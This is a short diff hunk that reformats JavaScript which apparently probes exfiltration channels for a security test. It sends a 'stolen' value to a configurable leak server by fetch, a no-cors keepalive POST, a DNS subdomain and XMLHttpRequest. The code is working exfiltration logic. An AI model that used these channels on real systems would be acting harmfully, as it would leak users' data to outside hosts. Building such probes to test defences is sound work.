@@ -204,9 +204,26 @@ async function run(event) {
 
   await Promise.all([
     attempt('fetch(leak server, absolute)', async () => `status ${(await fetch(leakUrl('fetch', stolen))).status}`),
-    attempt('fetch(leak server, no-cors keepalive POST)', async () =>
-      `type ${(await fetch(leakUrl('fetch-keepalive', stolen), { method: 'POST', mode: 'no-cors', keepalive: true, body: stolen })).type}`),
-    attempt('fetch(leak host by name, DNS)', async () => `status ${(await fetch(`${CONFIG.leakByName.replace('//', `//${encodeURIComponent(stolen).replace(/[^a-z0-9-]/gi, '-').slice(0, 60)}.`)}/leak/${CONFIG.tag}/fetch-by-name`)).status}`),
+    attempt(
+      'fetch(leak server, no-cors keepalive POST)',
+      async () => `type ${(await fetch(leakUrl('fetch-keepalive', stolen), { method: 'POST', mode: 'no-cors', keepalive: true, body: stolen })).type}`,
+    ),
+    attempt(
+      'fetch(leak host by name, DNS)',
+      async () =>
+        `status ${
+          (
+            await fetch(
+              `${CONFIG.leakByName.replace(
+                '//',
+                `//${encodeURIComponent(stolen)
+                  .replace(/[^a-z0-9-]/gi, '-')
+                  .slice(0, 60)}.`,
+              )}/leak/${CONFIG.tag}/fetch-by-name`,
+            )
+          ).status
+        }`,
+    ),
     attempt('fetch(app origin, absolute)', async () => `status ${(await fetch(`${CONFIG.appOrigin}/__leak/${CONFIG.tag}/fetch-app?data=${stolen}`)).status}`),
     attempt('fetch(app-relative /__leak)', async () => `status ${(await fetch(`/__leak/${CONFIG.tag}/fetch-relative?data=${stolen}`)).status}`),
     attempt('XMLHttpRequest async', () => xhr(leakUrl('xhr-async', stolen), true)),
